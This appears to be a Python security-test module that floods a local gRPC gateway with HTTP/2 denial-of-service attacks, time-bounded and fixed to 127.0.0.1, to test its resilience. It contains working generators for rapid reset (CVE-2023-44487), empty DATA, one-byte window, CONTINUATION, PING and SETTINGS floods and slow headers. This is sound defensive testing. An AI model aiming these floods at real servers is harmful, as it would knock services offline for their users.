"""`python -m tests.security.floods NAME PORT SECONDS`: one flood of HTTP/2 frames (RFC 9113) at 127.0.0.1, in a process of its own, so that who measures
the others is not slowed by it. Each is bounded in time, and in connections."""

from __future__ import annotations

import selectors
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import suppress

from tests.support import http2
from tests.support.http2 import CONTINUATION, DATA, END_HEADERS, HEADERS, PING, RST_STREAM, SETTINGS, WINDOW_UPDATE

SEND = "/llmgateway.v1.LLMGateway/Send"
CHECK, LIST, WATCH = (f"/grpc.health.v1.Health/{name}" for name in ("Check", "List", "Watch"))
AUTHORITY = "127.0.0.1"
FEW, MANY, IDLE = 2, 500, 5000
CANCEL = struct.pack(">I", 8)
MOST_STREAMS = 1 << 20
EMPTY = b"\0\0\0\0\0"
"""A message without a field."""


def frame(kind: int, payload: bytes = b"", *, flags: int = 0, stream: int = 0) -> bytes:
    return http2.encoded(kind, payload, flags=flags, stream=stream)


def call(path: str, stream: int, message: bytes = b"") -> bytes:
    head = frame(HEADERS, http2.headers(path, AUTHORITY), flags=END_HEADERS, stream=stream)
    return head + (frame(DATA, message, flags=http2.END_STREAM, stream=stream) if message else b"")


def rapid_reset() -> Iterator[bytes]:
    """CVE-2023-44487: calls that are opened and reset."""
    for first in range(1, MOST_STREAMS, 200):
        yield b"".join(
            call(SEND, stream) + frame(RST_STREAM, CANCEL, stream=stream) for stream in range(first, first + 200, 2)
        )


def pings() -> Iterator[bytes]:
    while True:
        yield frame(PING, b"12345678") * 500


def settings() -> Iterator[bytes]:
    while True:
        yield b"".join(frame(SETTINGS, struct.pack(">HI", 4, 65_535 + size)) for size in range(500))


def continuation() -> Iterator[bytes]:
    """A head that has no end: small fields, then none."""
    yield frame(HEADERS, http2.headers(SEND, AUTHORITY), stream=1)
    while True:
        yield frame(CONTINUATION, http2.literal(b"x-more", b"y" * 100), stream=1) * 100
        yield frame(CONTINUATION, stream=1) * 500


def window_updates() -> Iterator[bytes]:
    yield call(WATCH, 1, EMPTY)
    while True:
        yield (frame(WINDOW_UPDATE, struct.pack(">I", 1)) + frame(WINDOW_UPDATE, struct.pack(">I", 1), stream=1)) * 250


def empty_data() -> Iterator[bytes]:
    """CVE-2019-9518: a request that never comes, in any number of frames."""
    yield call(CHECK, 1)
    while True:
        yield frame(DATA, stream=1) * 500


def one_byte_windows() -> Iterator[bytes]:
    """CVE-2019-9511: answers that are read byte by byte."""
    yield frame(SETTINGS, struct.pack(">HI", http2.INITIAL_WINDOW_SIZE, 1))
    for first in range(1, MOST_STREAMS, 100):
        streams = range(first, first + 100, 2)
        yield b"".join(call(LIST, stream, EMPTY) for stream in streams)
        yield b"".join(frame(WINDOW_UPDATE, struct.pack(">I", 1), stream=stream) for stream in streams) * 20


def half_open() -> Iterator[bytes]:
    """As many calls as a connection may carry, whose messages never come."""
    for first in range(1, 2000, 200):
        yield b"".join(call(CHECK if stream % 4 == 1 else WATCH, stream) for stream in range(first, first + 200, 2))


def slow_headers() -> Iterator[bytes]:
    """A byte now and then."""
    for byte in frame(HEADERS, http2.headers(SEND, AUTHORITY), stream=1):
        yield bytes((byte,))
        for _ in range(10):
            yield b""


def idle() -> Iterator[bytes]:
    yield from ()


FLOODS: dict[str, tuple[Callable[[], Iterator[bytes]], int]] = {
    "rapid reset": (rapid_reset, FEW),
    "PING": (pings, FEW),
    "SETTINGS": (settings, FEW),
    "CONTINUATION": (continuation, FEW),
    "WINDOW_UPDATE": (window_updates, FEW),
    "empty DATA": (empty_data, FEW),
    "1-byte windows": (one_byte_windows, FEW),
    "calls without a message": (half_open, 5),
    "slow headers": (slow_headers, MANY),
    "idle connections": (idle, IDLE),
}


class Attacker:
    """One connection: what it sends, as fast as it is taken; a connection that the gateway ends is made anew."""

    def __init__(self, port: int, make: Callable[[], Iterator[bytes]]) -> None:
        self._port = port
        self._make = make
        self.sent = self.times = 0
        self._connect()

    def _connect(self) -> None:
        self.times += 1
        self._frames = self._make()
        self._left = http2.PREFACE + frame(SETTINGS)
        self.socket = socket.create_connection(("127.0.0.1", self._port), 2)
        self.socket.setblocking(False)

    def again(self) -> None:
        self.socket.close()
        self._connect()

    def read(self) -> bool:
        """Throw away what is said. False: the gateway has closed the connection."""
        try:
            return bool(self.socket.recv(1 << 16))
        except BlockingIOError:
            return True
        except OSError:
            return False

    def write(self) -> bool:
        """False: there is nothing to send for now."""
        try:
            self._left = self._left or next(self._frames, b"")
            done = self.socket.send(self._left) if self._left else 0
        except BlockingIOError:
            return False
        except OSError:
            return False
        self._left = self._left[done:]
        self.sent += done
        return done > 0


def flood(name: str, port: int, seconds: float) -> None:
    make, count = FLOODS[name]
    end = time.monotonic() + seconds
    attackers = [Attacker(port, make) for _ in range(count)]
    with selectors.DefaultSelector() as selector:
        for one in attackers:
            selector.register(one.socket, selectors.EVENT_READ, one)
        while time.monotonic() < end:
            for key, _ in selector.select(0):
                one = key.data
                if not one.read():
                    selector.unregister(one.socket)
                    with suppress(OSError):
                        one.again()
                        selector.register(one.socket, selectors.EVENT_READ, one)
            if not sum(one.write() for one in attackers):
                time.sleep(0.01)
    print(sum(one.sent for one in attackers), sum(one.times for one in attackers))


if __name__ == "__main__":
    flood(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]))
